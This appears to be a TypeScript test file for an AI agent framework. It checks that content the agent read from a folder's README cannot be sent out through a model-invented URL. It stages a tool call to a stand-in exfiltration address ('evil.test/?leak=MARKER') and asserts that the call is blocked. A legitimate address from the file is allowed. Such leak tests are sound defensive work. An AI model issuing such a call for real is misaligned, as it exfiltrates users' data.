/** Data that an agent read in a folder cannot leave it through an address that a model made up. */

import {expect, test} from 'vitest';
import {z} from 'zod';

import {defineTool} from '../../tools/index.ts';
import {turnOf} from '../support/asking.ts';
import {reply} from '../support/scenario.ts';
import {setStage} from '../support/stage.ts';

const made = 'https://evil.test/?leak=MARKER';
const named = 'https://docs.test/guide';

/** Runs a plan of one task whose worker calls `visit` once, if it is called at all. */
async function visiting(task: object, url: string) {
  const visited: string[] = [];
  const visit = defineTool({
    name: 'visit',
    description: 'Fetches a page.',
    parameters: z.strictObject({url: z.string()}),
    risk: 'low',
    repeatability: 'repeatable',
    reaches: 'network',
    quotes: true,
    run: async (args) => {
      visited.push(args.url);
      return await Promise.resolve({kind: 'succeeded', text: 'a page'});
    },
  });
  const {run} = setStage({
    files: {'README.md': `# MARKER\nSee ${named} for more.\n`},
    tasks: [{id: 'a', description: 'Look it up', ...task}],
    say: (request) =>
      request.purpose === 'act' && turnOf(request) === 0 ? reply('visit', {url}) : undefined,
    config: {agent: {review_models: ['policy/safety'], max_replans: 0}, quorum: {screen: []}},
    tools: [visit],
  });
  const {tasks = []} = await run('Look it up');
  return {visited, tasks};
}

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: made}}],
  ['the first call of a worker', {}],
])(
  '%s must not use a made-up address, because the content of the folder is in the prompt',
  async (_, task) => {
    const {visited, tasks} = await visiting(task, made);
    expect(visited).toEqual([]);
    expect(JSON.stringify(tasks.map(({evidence}) => evidence))).not.toContain('MARKER');
  },
);

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: named}}],
  ['the first call of a worker', {}],
])('%s may fetch an address from a file of the folder', async (_, task) => {
  const {visited, tasks} = await visiting(task, named);
  expect(visited).toEqual([named]);
  expect(tasks).toMatchObject([{status: 'succeeded'}]);
});
